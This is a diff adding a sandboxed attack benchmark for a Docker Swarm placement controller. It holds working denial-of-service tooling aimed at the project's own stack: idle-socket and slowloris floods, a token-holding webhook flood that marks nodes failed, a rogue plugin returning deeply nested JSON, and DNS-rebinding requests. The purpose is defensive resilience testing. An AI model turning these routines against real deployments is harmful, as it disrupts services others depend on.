@@ -1,0 +1,549 @@
+"""The attack bench: the stack, deployed with its defaults, against an attacker on its
+overlay network.
+
+    python bench/attack.py [--seconds 60] [--name attack]
+
+On a 4-node sandbox (3 managers), the controller's image is built with no registry,
+`compose.yaml` is deployed as the docs deploy it (TLS certificates made by the docs'
+openssl commands, tokens as secrets), with one addition: a placement plugin spec that
+names an address on the overlay, so that an attacker can answer as a plugin. A managed
+service (4 replicas) and an unmanaged one (4 replicas) run beside it. Then, one after
+the other, from containers attached to the stack's attachable overlay network:
+
+1. sockets: 200 idle sockets (half of them never starting TLS), and a slowloris client
+   that completes TLS and drips a request, on every controller's 9464 and 9465 and
+   every agent's 9810;
+2. webhook: a holder of the webhook token rotates `failed` across the nodes, as fast
+   as the webhook takes it;
+3. plugin: the plugin answers every call with JSON nested 100 000 deep;
+4. rebinding: the web view asked under another host name, with and without a login.
+
+For each: how many reconcile cycles the leading controller ran during the attack, how
+many tasks of each service were stopped (the goal: none), whether Swarm restarted a
+controller or an agent, and the container healthcheck's time and a network client's
+/healthz time during the attack against just before it, side by side.
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import os
+import re
+import shutil
+import statistics
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+from collections.abc import Callable
+from datetime import datetime
+from pathlib import Path
+from typing import Any
+
+import docker
+
+from controller.sandbox import Sandbox, SandboxSpec
+from controller.sandbox.app_image import build_controller_image, load_into
+
+ROOT = Path(__file__).resolve().parents[1]
+STACK = "placement"
+NETWORK = f"{STACK}_placement"
+TOKENS = {"metrics": "bench-metrics", "health": "bench-health", "ui": "bench-ui"}
+PLUGIN_SPEC = "tcp://evilplugin:9900"
+PLUGIN_OVERRIDE = """\
+version: "3.8"
+services:
+  controller:
+    environment:
+      PLACEMENT_PLUGINS: "true"
+      PLACEMENT_PLUGIN_DIRS: /etc/placement-plugins
+    configs:
+      - source: bench-plugin
+        target: /etc/placement-plugins/evil.spec
+configs:
+  bench-plugin:
+    file: ./evil.spec
+"""
+# The attacker's tools, run with the controller image's python3 in a container on the
+# overlay network. argv: MODE SECONDS ARGS...
+ATTACKER = r"""
+import http.client, json, socket, ssl, sys, threading, time
+mode, seconds = sys.argv[1], float(sys.argv[2])
+end = time.monotonic() + seconds
+loose = ssl.create_default_context(); loose.check_hostname = False
+loose.verify_mode = ssl.CERT_NONE
+def ips(name):
+    try:
+        return sorted({a[4][0] for a in socket.getaddrinfo(name, None, socket.AF_INET)})
+    except OSError:
+        return []
+if mode == "sockets":
+    targets = [(ip, 9464) for ip in ips("tasks.controller")]
+    targets += [(ip, 9465) for ip in ips("tasks.controller")]
+    targets += [(ip, 9810) for ip in ips("tasks.agent")]
+    held, refused = [], 0
+    for host, port in targets:
+        for n in range(200):
+            try:
+                s = socket.create_connection((host, port), timeout=5)
+                if n % 2:  # half finish TLS, then say nothing
+                    s = loose.wrap_socket(s)
+                held.append(s)
+            except OSError:
+                refused += 1
+    def drip(host, port):
+        while time.monotonic() < end:
+            try:
+                s = loose.wrap_socket(socket.create_connection((host, port), timeout=5))
+                s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
+                while time.monotonic() < end:
+                    s.sendall(b"X"); time.sleep(1)
+            except OSError:
+                time.sleep(0.5)
+    for host, port in targets:
+        threading.Thread(target=drip, args=(host, port), daemon=True).start()
+    time.sleep(max(0.0, end - time.monotonic()))
+    closed = 0
+    for s in held:
+        s.setblocking(False)
+        try:
+            closed += s.recv(1) == b""
+        except BlockingIOError:
+            pass
+        except OSError:
+            closed += 1
+    print(json.dumps({"targets": len(targets), "opened": len(held), "refused": refused,
+                      "closed_by_server": closed}))
+elif mode == "webhook":
+    token, nodes = sys.argv[3], sys.argv[4].split(",")
+    answers = {}
+    i = 0
+    while time.monotonic() < end:
+        node = nodes[i % len(nodes)]; i += 1
+        for state in ("failed", "ok"):
+            for ip in ips("tasks.controller"):
+                try:
+                    c = http.client.HTTPSConnection(ip, 9465, timeout=5, context=loose)
+                    c.request("POST", "/v1/health", json.dumps({"node": node, "state": state}),
+                              {"Authorization": "Bearer " + token,
+                               "Content-Type": "application/json"})
+                    code = c.getresponse().status
+                except OSError:
+                    code = "error"
+                answers[f"{state} {code}"] = answers.get(f"{state} {code}", 0) + 1
+        time.sleep(0.2)
+    print(json.dumps(answers))
+elif mode == "plugin":
+    import http.server
+    deep = b"[" * 100000 + b"]" * 100000
+    calls = {"n": 0}
+    class H(http.server.BaseHTTPRequestHandler):
+        def log_message(self, *a): pass
+        def do_POST(self):
+            self.rfile.read(int(self.headers.get("Content-Length") or 0))
+            calls["n"] += 1
+            body = b'{"Implements": ["PlacementDriver"]}' if "Activate" in self.path else deep
+            self.send_response(200); self.send_header("Content-Length", str(len(body)))
+            self.end_headers(); self.wfile.write(body)
+    server = http.server.ThreadingHTTPServer(("0.0.0.0", 9900), H)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    time.sleep(seconds)
+    print(json.dumps({"plugin_calls": calls["n"]}))
+elif mode == "rebinding":
+    found = {}
+    for ip in ips("tasks.controller"):
+        for path, headers in (("/ui", {"Host": "rebound.example"}),
+                              ("/ui/state", {"Host": "rebound.example",
+                                             "Authorization": "Bearer " + sys.argv[3]}),
+                              ("/ui/state", {}), ("/ui", {})):
+            c = http.client.HTTPSConnection(ip, 9464, timeout=5, context=loose)
+            c.request("GET", path, headers=headers)
+            key = f"{path} {'Host rebound.example' if 'Host' in headers else 'no login'}"
+            found.setdefault(key, []).append(c.getresponse().status)
+    print(json.dumps(found))
+elif mode == "healthz":
+    times = []
+    while time.monotonic() < end:
+        for ip in ips("tasks.controller"):
+            started = time.monotonic()
+            try:
+                c = http.client.HTTPSConnection(ip, 9464, timeout=5, context=loose)
+                c.request("GET", "/healthz"); ok = c.getresponse().status == 200
+            except OSError:
+                ok = False
+            times.append(time.monotonic() - started if ok else None)
+        time.sleep(1)
+    print(json.dumps(times))
+"""
+
+
+def say(text: str) -> None:
+    print(f"[{time.strftime('%H:%M:%S')}] {text}", flush=True)
+
+
+def wait(predicate: Callable[[], object], timeout: float, what: str) -> Any:
+    deadline = time.monotonic() + timeout
+    while True:
+        try:
+            got = predicate()
+        except Exception:  # the swarm is busy: ask again
+            got = None
+        if got:
+            return got
+        if time.monotonic() > deadline:
+            raise SystemExit(f"timed out waiting for {what}")
+        time.sleep(1)
+
+
+def make_certificate(where: Path) -> None:
+    """As docs/operations-deploy.md, "TLS", makes them."""
+    run = lambda *a: subprocess.run(a, cwd=where, check=True, capture_output=True)  # noqa: E731
+    run("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
+        "-nodes", "-days", "30", "-subj", "/CN=swarm-placement-ca", "-keyout", "ca.key",
+        "-out", "ca.crt")  # fmt: skip
+    run("openssl", "req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
+        "-subj", "/CN=swarm-placement", "-keyout", "tls.key", "-out", "tls.csr")  # fmt: skip
+    (where / "tls.ext").write_text(
+        "subjectAltName=DNS:controller,DNS:tasks.controller,DNS:localhost,IP:127.0.0.1\n"
+        "extendedKeyUsage=serverAuth,clientAuth\n"
+    )
+    run("openssl", "x509", "-req", "-in", "tls.csr", "-CA", "ca.crt", "-CAkey", "ca.key",
+        "-CAcreateserial", "-days", "30", "-extfile", "tls.ext", "-out", "tls.crt")  # fmt: skip
+
+
+def deploy(sb: Sandbox, image: str, work: Path) -> None:
+    client = sb.client()
+    for name, value in TOKENS.items():
+        client.secrets.create(name=f"placement-{name}-token", data=value.encode())
+    client.secrets.create(name="placement-agent-secret", data=b"bench-agent-secret")
+    for name, file in (("cert", "tls.crt"), ("key", "tls.key"), ("ca", "ca.crt")):
+        client.secrets.create(name=f"placement-tls-{name}", data=(work / file).read_bytes())
+    client.close()
+    stack = (ROOT / "compose.yaml").read_text()
+    if not _kernel_has_esp():  # as tests/integration/test_deploy_swarm.py does
+        stack = re.sub(r"\n    driver_opts:\n      encrypted: \"true\"\n", "\n", stack)
+        say("this kernel has no IPsec ESP: the overlay is not encrypted (TLS still is)")
+    (work / "compose.yaml").write_text(stack)
+    (work / "plugin.yaml").write_text(PLUGIN_OVERRIDE)
+    (work / "evil.spec").write_text(PLUGIN_SPEC + "\n")
+    shutil.copytree(ROOT / "policies", work / "policies")
+    env = {
+        **os.environ,
+        "DOCKER_HOST": sb.manager_host,
+        "PLACEMENT_IMAGE": image,
+        "PLACEMENT_DOCKER_SOCKET": f"{sb.state.dir}/{{{{.Node.Hostname}}}}/docker.sock",
+        "PLACEMENT_AGENT_USAGE": "containers",  # the sandbox's nodes share one /proc
+    }
+    cli = shutil.which("docker") or "docker"
+    subprocess.run(
+        [cli, "stack", "deploy", "--resolve-image", "never", "-c", "compose.yaml",
+         "-c", "plugin.yaml", STACK],
+        cwd=work, env=env, check=True, capture_output=True, text=True, timeout=120,
+    )  # fmt: skip
+
+
+def _kernel_has_esp() -> bool:
+    import gzip  # noqa: PLC0415
+
+    for path in (Path("/proc/config.gz"), Path(f"/boot/config-{os.uname().release}")):
+        if path.exists():
+            raw = path.read_bytes()
+            text = (gzip.decompress(raw) if path.suffix == ".gz" else raw).decode()
+            return re.search(r"^CONFIG_INET_ESP=[ym]$", text, re.M) is not None
+    return True
+
+
+def running(sb: Sandbox, service: str) -> dict[str, tuple[str, str]]:
+    """Task ID -> (node hostname, container ID) of the service's running tasks."""
+    client = sb.client()
+    try:
+        names = {n["ID"]: n["Description"]["Hostname"] for n in client.api.nodes()}
+        tasks = client.api.tasks(filters={"service": service, "desired-state": "running"})
+    finally:
+        client.close()
+    return {
+        t["ID"]: (names.get(t["NodeID"], "?"), t["Status"]["ContainerStatus"]["ContainerID"])
+        for t in tasks
+        if t["Status"]["State"] == "running" and (t["Status"].get("ContainerStatus") or {})
+    }
+
+
+def in_container(sb: Sandbox, where: tuple[str, str], command: list[str]) -> tuple[int, str]:
+    """The exit code and output of `command` in a task's container (-1: it is gone)."""
+    client = sb.client(where[0])
+    try:
+        code, out = client.containers.get(where[1]).exec_run(command)
+    except docker.errors.DockerException as exc:
+        return -1, str(exc)
+    finally:
+        client.close()
+    return int(code), out.decode(errors="replace")
+
+
+def why_it_ended(sb: Sandbox, where: tuple[str, str]) -> str:
+    """What Docker says of a task's container that stopped: its exit and health."""
+    client = sb.client(where[0])
+    try:
+        state = client.containers.get(where[1]).attrs["State"]
+    except docker.errors.DockerException as exc:
+        return f"cannot inspect it: {exc}"
+    finally:
+        client.close()
+    health = [h.get("Output", "").strip()[:120] for h in (state.get("Health") or {}).get("Log", [])]
+    return (
+        f"on {where[0]}: {state.get('Status')}, exit {state.get('ExitCode')}, oom-killed "
+        f"{state.get('OOMKilled')}, last health checks {health[-3:]}"
+    )
+
+
+METRICS = (
+    "import ssl, urllib.request as u\n"
+    "c = ssl.create_default_context(cafile='/run/secrets/placement-tls-ca')\n"
+    "r = u.Request('https://127.0.0.1:9464/metrics', headers={'Authorization': "
+    f"'Bearer {TOKENS['metrics']}'}})\n"
+    "print(u.urlopen(r, context=c, timeout=5).read().decode())"
+)
+
+
+def cycles(sb: Sandbox) -> dict[str, float]:
+    """Controller task -> reconcile cycles it ran as the leader so far (a task whose
+    metrics could not be read after three tries is left out)."""
+    counted = {}
+    for task, where in running(sb, f"{STACK}_controller").items():
+        for _ in range(3):
+            code, out = in_container(sb, where, ["python3", "-c", METRICS])
+            if code == 0:
+                counted[task] = sum(
+                    float(line.rsplit(" ", 1)[1])
+                    for line in out.splitlines()
+                    if line.startswith("placement_reconcile_duration_seconds_count")
+                    and 'role="leader"' in line
+                )
+                break
+            time.sleep(1)
+    return counted
+
+
+# Inside a container: the probe's own request to the unix socket, every half second, no
+# `docker exec` per sample: the process's answer time alone. argv: SECONDS
+IN_PROCESS_PROBE = r"""
+import json, socket, sys, time
+end, times = time.monotonic() + float(sys.argv[1]), []
+while time.monotonic() < end:
+    started = time.monotonic()
+    try:
+        s = socket.socket(socket.AF_UNIX); s.settimeout(10)
+        s.connect("/run/swarm-placement/probe.sock")
+        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
+        ok = s.recv(64).startswith(b"HTTP/1.1 200")
+        s.close()
+    except OSError:
+        ok = False
+    times.append(time.monotonic() - started if ok else None)
+    time.sleep(0.5)
+print(json.dumps(times))
+"""
+
+
+def in_process_probes(sb: Sandbox, seconds: float) -> list[threading.Thread]:
+    """Start timing each controller's own answer; `results` fills as they end."""
+    threads = []
+    for where in running(sb, f"{STACK}_controller").values():
+
+        def one(where: tuple[str, str] = where) -> None:
+            code, out = in_container(sb, where, ["python3", "-c", IN_PROCESS_PROBE, str(seconds)])
+            PROBED.append(json.loads(out.strip().splitlines()[-1]) if code == 0 else [None])
+
+        threads.append(threading.Thread(target=one, daemon=True))
+        threads[-1].start()
+    return threads
+
+
+PROBED: list[list[float | None]] = []
+
+
+def health_log(sb: Sandbox, since: float) -> tuple[int, int, list[float]]:
+    """Swarm's own healthchecks of the controllers since `since` (epoch seconds): how
+    many ran, how many failed, and how long each that passed took."""
+    runs = failures = 0
+    took = []
+    for where in running(sb, f"{STACK}_controller").values():
+        client = sb.client(where[0])
+        try:
+            log = client.containers.get(where[1]).attrs["State"].get("Health", {}).get("Log", [])
+        except docker.errors.DockerException:
+            continue
+        finally:
+            client.close()
+        for entry in log:
+            start, end = _epoch(entry["Start"]), _epoch(entry["End"])
+            if start < since:
+                continue
+            runs += 1
+            if entry.get("ExitCode") != 0:
+                failures += 1
+            else:
+                took.append(end - start)
+    return runs, failures, took
+
+
+def _epoch(text: str) -> float:
+    """Docker's RFC 3339 time (nanoseconds, Z or an offset), as epoch seconds."""
+    found = re.fullmatch(r"(.+T\d\d:\d\d:\d\d)(?:\.(\d+))?(Z|[+-]\d\d:\d\d)", text)
+    if found is None:
+        return 0.0
+    zone = "+00:00" if found.group(3) == "Z" else found.group(3)
+    stamp = datetime.fromisoformat(found.group(1) + zone)
+    return stamp.timestamp() + float(f"0.{found.group(2) or 0}")
+
+
+def probe_times(sb: Sandbox, samples: int) -> list[float]:
+    """The container healthcheck, as Swarm runs it, timed: seconds per probe."""
+    times = []
+    for _ in range(samples):
+        for where in running(sb, f"{STACK}_controller").values():
+            started = time.monotonic()
+            code, _ = in_container(sb, where, ["swarm-placement-probe", "healthz"])
+            if code == 0:
+                times.append(time.monotonic() - started)
+    return times
+
+
+def attacker(sb: Sandbox, image: str, node: str, args: list[str], alias: str | None = None) -> Any:
+    client = sb.client(node)
+    container = client.containers.run(
+        image, entrypoint=["python3", "-c", ATTACKER], command=args, network=NETWORK,
+        detach=True, name=f"attacker-{args[0]}-{int(time.time())}",
+    )  # fmt: skip
+    if alias is not None:  # reachable by name on the overlay, as the plugin spec says
+        net = client.networks.get(NETWORK)
+        net.disconnect(container)
+        net.connect(container, aliases=[alias])
+    return client, container
+
+
+def finish(handle: Any, timeout: float) -> Any:
+    client, container = handle
+    try:
+        container.wait(timeout=timeout)
+        out = container.logs().decode(errors="replace").strip().splitlines()
+        return json.loads(out[-1]) if out else None
+    finally:
+        container.remove(force=True)
+        client.close()
+
+
+def phase(sb: Sandbox, image: str, name: str, seconds: float, start: Callable[[], Any]) -> None:
+    services = ("victim", "bystander", f"{STACK}_controller", f"{STACK}_agent")
+    wait(lambda: len(cycles(sb)) == 2, 300, "both controllers answering")
+    before = {s: running(sb, s) for s in services}
+    cycles_before = cycles(sb)
+    probes_before = probe_times(sb, 3)
+    PROBED.clear()
+    started = time.time()
+    timing = in_process_probes(sb, seconds)
+    honest = attacker(sb, image, "node-3", ["healthz", str(seconds)])
+    if name.startswith("no attack"):
+        probes_during = probe_times(sb, 3)
+        attack = start()
+    else:
+        attack = start()
+        probes_during = probe_times(sb, 3)
+    result = finish(attack, seconds + 120) if attack is not None else None
+    network = finish(honest, seconds + 120) or []
+    for thread in timing:
+        thread.join(seconds + 120)
+    time.sleep(15)  # what the attack set off has time to show
+    checks, failed, took = health_log(sb, started)
+    own = [t for times in PROBED for t in times if t is not None]
+    unanswered = sum(1 for times in PROBED for t in times if t is None)
+    cycles_after = cycles(sb)
+    after = {s: running(sb, s) for s in services}
+    stopped = {s: len(set(before[s]) - set(after[s])) for s in services}
+    ended = [
+        f"{s} task {t[:12]} {why_it_ended(sb, before[s][t])}"
+        for s in services[2:]
+        for t in set(before[s]) - set(after[s])
+    ]
+    ran = {t[:12]: cycles_after[t] - n for t, n in cycles_before.items() if t in cycles_after}
+    answered = [t for t in network if t is not None]
+    say(f"--- {name} ({seconds:.0f} s) ---")
+    say(f"attacker: {json.dumps(result)}")
+    say(f"cycles run as leader during the attack, per controller task: {ran}")
+    say(f"tasks stopped: {stopped}")
+    for line in ended:
+        say(f"  {line}")
+    say(
+        "healthcheck (unix socket, via docker exec), median s: before "
+        f"{_median(probes_before)}, during {_median(probes_during)} "
+        f"({len(probes_during)} answered)"
+    )
+    say(
+        f"the controllers' own answer on the probe socket (no exec), s: median "
+        f"{_median(own)}, max {max(own, default=0):.3f}, {unanswered} unanswered"
+    )
+    say(
+        f"Swarm's healthchecks of the controllers: {checks} run, {failed} failed; those "
+        f"passed took median {_median(took)} s, max {max(took, default=0):.3f} s"
+    )
+    say(
+        f"a network client's /healthz during the attack: {len(answered)} of {len(network)} "
+        f"answered, median {_median(answered)} s, max {max(answered, default=0):.3f} s"
+    )
+
+
+def _quiet(seconds: float) -> None:
+    time.sleep(seconds)
+
+
+def _median(values: list[float]) -> str:
+    return f"{statistics.median(values):.3f}" if values else "none"
+
+
+def main() -> int:
+    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
+    parser.add_argument("--name", default="attack")
+    parser.add_argument("--seconds", type=float, default=60.0)
+    args = parser.parse_args()
+    spec = SandboxSpec(name=args.name, nodes=4, managers=3)
+    with Sandbox.up(spec) as sb, tempfile.TemporaryDirectory() as tmp:
+        work = Path(tmp)
+        built = build_controller_image(sb.docker_host("node-1"))
+        load_into([sb.docker_host(n) for n in sb.nodes[1:]], built)
+        say(f"image {built.image_id[:19]}: {built.timings()}")
+        make_certificate(work)
+        deploy(sb, built.image_id, work)
+        sb.create_service("victim", replicas=4, labels={"placement.managed": "true"})
+        sb.create_service("bystander", replicas=4)
+        wait(lambda: len(running(sb, f"{STACK}_agent")) == 4, 300, "an agent on every node")
+        wait(lambda: len(running(sb, f"{STACK}_controller")) == 2, 300, "two controllers")
+        sb.wait_services_running(["victim", "bystander"], timeout=120)
+        wait(lambda: sum(cycles(sb).values()) > 0, 300, "a leader's first cycle")
+        say("deployed; the attacks begin")
+        image, seconds = built.image_id, args.seconds
+        phase(sb, image, "no attack (the baseline)", seconds, lambda: _quiet(seconds))
+        phase(
+            sb, image, "idle and slowloris sockets", seconds,
+            lambda: attacker(sb, image, "node-4", ["sockets", str(seconds)]),
+        )  # fmt: skip
+        nodes = ",".join(sb.nodes)
+        phase(
+            sb, image, "webhook flood rotating failed across nodes", seconds,
+            lambda: attacker(sb, image, "node-4",
+                             ["webhook", str(seconds), TOKENS["health"], nodes]),
+        )  # fmt: skip
+        phase(
+            sb, image, "plugin answering JSON nested 100 000 deep", seconds,
+            lambda: attacker(sb, image, "node-4", ["plugin", str(seconds)], alias="evilplugin"),
+        )  # fmt: skip
+        phase(
+            sb, image, "DNS rebinding and no login", 10,
+            lambda: attacker(sb, image, "node-4", ["rebinding", "10", TOKENS["ui"]]),
+        )  # fmt: skip
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
